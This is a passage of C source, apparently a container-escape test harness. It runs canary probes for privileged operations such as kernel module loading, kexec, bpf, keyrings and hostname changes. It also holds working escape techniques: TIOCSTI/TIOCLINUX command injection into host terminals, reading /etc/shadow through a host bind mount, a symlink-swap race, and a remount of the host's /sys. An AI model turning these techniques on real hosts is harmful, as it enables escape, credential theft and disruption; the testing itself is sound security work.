    usleep(2000);
    clock_gettime(CLOCK_MONOTONIC, &t);
  } while ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
  datalen = 0;
  RUN("entered-environ") {
    add("%s", seen_env);
    nt("scanned %d, attached %d (%s); ", scanned, attached, kinds);
    report("entered-environ", attached, 0);
  }
  RUN("entered-root") {
    add("%s", seen_root);
    report("entered-root", 0, 0);
  }
  RUN("exe-overwrite") {
    nt("%d executables held, %d rewritten; ", nofd, wrote);
    report("exe-overwrite", wrote, 0);
  }
  for (int i = 0; i < nofd; i++) close(ofd[i]);
}

/* Last: its success leaves the host's /sys read-only until the host restores it, and the attempts
 * before it must find the host as it was. */
static void last_attempts(void) {
  ISO("sysfs-sb-ro") {
    /* a remount without MS_BIND changes the superblock: in the host's network namespace the
     * container's sysfs is the host's (what a sysvinit guest's umountroot/umountfs do by themselves) */
    int r = mnt(NULL, "/sys", NULL, MS_REMOUNT | MS_RDONLY | MS_NOSUID | MS_NODEV | MS_NOEXEC, NULL);
    report("sysfs-sb-ro", r, -r);
  }
}

static void kernel_attempts(void) {
  const char *tok = argd("token", "x");
  RUN("init-module") {
    static const char junk[] = "machina: not a kernel module";
    long r = syscall(SYS_init_module, junk, sizeof junk, "");
    report("init-module", r, errno);
  }
  RUN("finit-module") {
    int fd = memfd_create("junk", 0);
    write(fd, "machina: not a kernel module", 28);
    long r = syscall(SYS_finit_module, fd, "", 0);
    report("finit-module", r, errno);
    close(fd);
  }
  RUN("kexec-load") {
    /* 1000 segments: refused with EINVAL after the privilege check, never loads anything */
    long r = syscall(SYS_kexec_load, 0UL, 1000UL, NULL, 0UL);
    report("kexec-load", r, errno);
  }
  RUN("kexec-file-load") {
    long r = syscall(SYS_kexec_file_load, -1, -1, 0UL, "", 0x80UL); /* invalid flags: EINVAL after the check */
    report("kexec-file-load", r, errno);
  }
  RUN("bpf-map") {
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.map_type = BPF_MAP_TYPE_ARRAY;
    a.key_size = 4;
    a.value_size = 4;
    a.max_entries = 1;
    long r = syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
    int e = errno;
    if (r >= 0) close((int)r);
    report("bpf-map", r, e);
  }
  RUN("bpf-enumerate") {
    union bpf_attr a;
    memset(&a, 0, sizeof a);
    a.start_id = 0;
    long r = syscall(SYS_bpf, BPF_PROG_GET_NEXT_ID, &a, sizeof a);
    int e = errno;
    if (r == 0) nt("first program id %u; ", a.next_id);
    if (r < 0 && e == ENOENT) r = 0; /* allowed, just nothing loaded */
    report("bpf-enumerate", r, e);
  }
  RUN("perf-system-wide") {
    struct perf_event_attr pa;
    memset(&pa, 0, sizeof pa);
    pa.type = PERF_TYPE_SOFTWARE;
    pa.size = sizeof pa;
    pa.config = PERF_COUNT_SW_CPU_CLOCK;
    pa.disabled = 1;
    long r = syscall(SYS_perf_event_open, &pa, -1, 0, -1, 0);
    int e = errno;
    if (r >= 0) close((int)r);
    report("perf-system-wide", r, e);
  }
  RUN("userfaultfd") {
    long r = syscall(SYS_userfaultfd, O_CLOEXEC);
    int e = errno;
    if (r >= 0) close((int)r);
    report("userfaultfd", r, e);
  }
  RUN("io-uring") {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long r = syscall(SYS_io_uring_setup, 2, &p);
    int e = errno;
    if (r >= 0) close((int)r);
    report("io-uring", r, e);
  }
  RUN("adjtimex") {
    struct timex tx;
    memset(&tx, 0, sizeof tx);
    tx.modes = ADJ_TICK;
    tx.tick = 1; /* out of range: EINVAL after the CAP_SYS_TIME check, the clock is never touched */
    long r = adjtimex(&tx);
    report("adjtimex", r, errno);
  }
  RUN("settimeofday-tz") {
    struct timezone tz = {atoi(argd("tz", "77")), 0};
    long r = settimeofday(NULL, &tz);
    report("settimeofday-tz", r, errno);
  }
  RUN("sethostname") {
    char n[64];
    snprintf(n, sizeof n, "mc-%s", tok);
    long r = sethostname(n, strlen(n));
    int e = errno;
    write_file("/proc/sys/kernel/hostname", n);
    report("sethostname", r, e);
  }
  RUN("setdomainname") {
    char n[64];
    snprintf(n, sizeof n, "mc-%s", tok);
    long r = setdomainname(n, strlen(n));
    report("setdomainname", r, errno);
  }
  RUN("swapon") {
    long r = swapon("/nonexistent/machina-canary", 0);
    report("swapon", r, errno);
  }
  RUN("swapoff") {
    long r = swapoff("/nonexistent/machina-canary");
    report("swapoff", r, errno);
  }
  RUN("acct") {
    long r = acct("/nonexistent/machina-canary");
    report("acct", r, errno);
  }
  RUN("reboot-cad") {
    /* toggles the host's Ctrl-Alt-Del setting if reboot(2) reached the host: harmless, restored */
    unsigned cmd = atoi(argd("cad", "0")) ? LINUX_REBOOT_CMD_CAD_ON : LINUX_REBOOT_CMD_CAD_OFF;
    long r = syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, cmd, NULL);
    report("reboot-cad", r, errno);
  }
  RUN("iopl") {
    long r = iopl(3);
    int e = errno;
    if (r == 0) iopl(0);
    report("iopl", r, e);
  }
  RUN("fanotify-fs") {
    long r = syscall(SYS_fanotify_init, FAN_CLASS_NOTIF | FAN_CLOEXEC, O_RDONLY);
    int e = errno;
    if (r >= 0) {
      long m = syscall(SYS_fanotify_mark, (int)r, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_OPEN, AT_FDCWD, "/");
      e = errno;
      nt("fanotify_mark filesystem: %s; ", m < 0 ? strerrorname_np(e) : "ok");
      close((int)r);
      r = m;
    }
    report("fanotify-fs", r, e);
  }
  RUN("keyring-read") {
    long id = arg("keyid") ? atol(arg("keyid")) : 0;
    char buf[512];
    long r = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf);
    int e = errno;
    if (r > 0) addbuf(buf, r > (long)sizeof buf ? (long)sizeof buf : r);
    char desc[128];
    snprintf(desc, sizeof desc, "machina-canary-%s", tok);
    long k = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", desc, 0);
    if (k > 0 && (r = syscall(SYS_keyctl, KEYCTL_READ, k, buf, sizeof buf)) > 0) addbuf(buf, r > (long)sizeof buf ? (long)sizeof buf : r);
    report("keyring-read", r, e);
  }
  RUN("keyring-write") {
    char desc[128];
    snprintf(desc, sizeof desc, "machina-canary-%s-w", tok);
    long r = syscall(SYS_add_key, "user", desc, "x", 1, KEY_SPEC_USER_KEYRING);
    report("keyring-write", r, errno);
  }
  RUN("net-admin") {
    /* the loopback device's queue length: the host sees it if the network namespace is its own */
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strcpy(ifr.ifr_name, "lo");
    ifr.ifr_qlen = atoi(argd("txqlen", "1001"));
    long r = ioctl(s, SIOCSIFTXQLEN, &ifr);
    report("net-admin", r, errno);
    close(s);
  }
  RUN("abstract-socket") {
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    const char *n = argd("abstract", "machina-none");
    memcpy(sa.sun_path + 1, n, strlen(n));
    long r = connect(s, (struct sockaddr *)&sa, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(n)));
    int e = errno;
    if (r == 0) {
      char m[128];
      snprintf(m, sizeof m, "pwned-%s\n", tok);
      write(s, m, strlen(m));
    }
    close(s);
    report("abstract-socket", r, e);
  }
  RUN("tiocsti") {
    /* push a command into every terminal within reach; the host's shell would run it after we exit */
    char cmd[128];
    snprintf(cmd, sizeof cmd, "echo GOT-%s\n", tok);
    int ok = 0;
    int fds[5] = {0, 1, 2, -1, -1};
    fds[3] = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
    fds[4] = open("/dev/console", O_RDWR | O_NOCTTY | O_CLOEXEC);
    int e = 0;
    for (int i = 0; i < 5; i++) {
      if (fds[i] < 0 || !isatty(fds[i])) continue;
      bool all = true;
      for (char *c = cmd; *c; c++)
        if (ioctl(fds[i], TIOCSTI, c) < 0) {
          e = errno;
          all = false;
          break;
        }
      if (all) ok++;
      nt("fd %d: %s; ", i, all ? "pushed" : strerrorname_np(e));
    }
    report("tiocsti", ok, e);
    RUN("tioclinux") {
      /* TIOCLINUX 3 = paste the console selection into the terminal's input */
      int e2 = 0, ok2 = 0;
      for (int i = 0; i < 5; i++) {
        if (fds[i] < 0 || !isatty(fds[i])) continue;
        char sub = 3;
        if (ioctl(fds[i], TIOCLINUX, &sub) == 0) ok2++;
        else e2 = errno;
      }
      report("tioclinux", ok2, e2);
    }
    for (int i = 3; i < 5; i++)
      if (fds[i] >= 0) close(fds[i]);
  }
  RUN("hostroot-read") {
    /* a Bind=/:/hostroot from an untrusted .nspawn file */
    char p[600];
    snprintf(p, sizeof p, "/hostroot%s", argd("secret", "/etc/shadow"));
    int r = slurp(p);
    report("hostroot-read", r, -r);
  }
  RUN("whoami") {
    add("uid=%d", getuid());
    report("whoami", 0, 0);
  }
}

/* ------------------------------------------------------------------ host-side helpers */

static int host_mode(int argc, char **argv) {
  if (strcmp(argv[1], "host-handle") == 0 && argc == 3) {
    static unsigned char buf[sizeof(struct file_handle) + 128];
    struct file_handle *fh = (struct file_handle *)buf;
    fh->handle_bytes = 128;
    int mid;
    if (name_to_handle_at(AT_FDCWD, argv[2], fh, &mid, 0) < 0) return perror("name_to_handle_at"), 1;
    printf("%d:", fh->handle_type);
    const unsigned char *b = buf + sizeof(struct file_handle);
    for (unsigned i = 0; i < fh->handle_bytes; i++) printf("%02x", b[i]);
    printf("\n");
    return 0;
  }
  if (strcmp(argv[1], "host-gettz") == 0) {
    struct timeval tv;
    struct timezone tz;
    gettimeofday(&tv, &tz);
    printf("%d\n", tz.tz_minuteswest);
    return 0;
  }
  if (strcmp(argv[1], "host-settz") == 0 && argc == 3) {
    struct timezone tz = {atoi(argv[2]), 0};
    return settimeofday(NULL, &tz) < 0 ? (perror("settimeofday"), 1) : 0;
  }
  if (strcmp(argv[1], "host-addkey") == 0 && argc == 4) {
    long id = syscall(SYS_add_key, "user", argv[2], argv[3], strlen(argv[3]), KEY_SPEC_USER_KEYRING);
    if (id < 0) return perror("add_key"), 1;
    printf("%ld\n", id);
    return 0;
  }
  if (strcmp(argv[1], "host-unlinkkey") == 0 && argc == 3) {
    return syscall(SYS_keyctl, KEYCTL_INVALIDATE, atol(argv[2])) < 0 ? (perror("keyctl"), 1) : 0;
  }
  if (strcmp(argv[1], "race") == 0 && argc >= 5) {
    /* race A B [A B]... SECONDS: swap each pair (a directory and a symlink) as fast as possible */
    double secs = atof(argv[argc - 1]);
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long n = 0;
    do {
      for (int i = 2; i + 1 < argc - 1; i += 2)
        if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], 2 /* RENAME_EXCHANGE */) == 0) n++;
      clock_gettime(CLOCK_MONOTONIC, &t);
    } while ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 < secs);
    printf("{\"swaps\":%ld}\n", n);
    return 0;
  }
  if (strcmp(argv[1], "init") == 0) {
    for (;;) {
      if (waitpid(-1, NULL, 0) < 0 && errno == ECHILD) pause();
    }
  }
  fprintf(stderr, "usage: attack run KEY=VALUE... | init | host-handle PATH | host-gettz | host-settz N | host-addkey DESC DATA | host-unlinkkey ID\n");
  return 2;
}

int main(int argc, char **argv) {
  if (argc < 2) return host_mode(argc, argv);
  if (strcmp(argv[1], "run") != 0) return host_mode(argc, argv);
  for (int i = 2; i < argc && nkv < MAXKV; i++) {
    char *eq = strchr(argv[i], '=');
    if (!eq) continue;
    *eq = 0;
    kv_key[nkv] = argv[i];
    kv_val[nkv++] = eq + 1;
  }
  only = arg("only");
  signal(SIGPIPE, SIG_IGN);
  /* the run's own fds: checked first, before this program opens anything */
  process_attempts();
  entered_attempts();
  sysctl_attempts();
  cgroup_attempts();
  mount_attempts();
  kernel_attempts();
  last_attempts();
  printf("{\"done\":true}\n");
  fflush(stdout);
  if (arg("hold")) {
    /* stay alive (in the container's cgroup) while the host reads the limits */
    printf("{\"holding\":true}\n");
    fflush(stdout);
    sleep((unsigned)atoi(arg("hold")));
  }
  return 0;
}
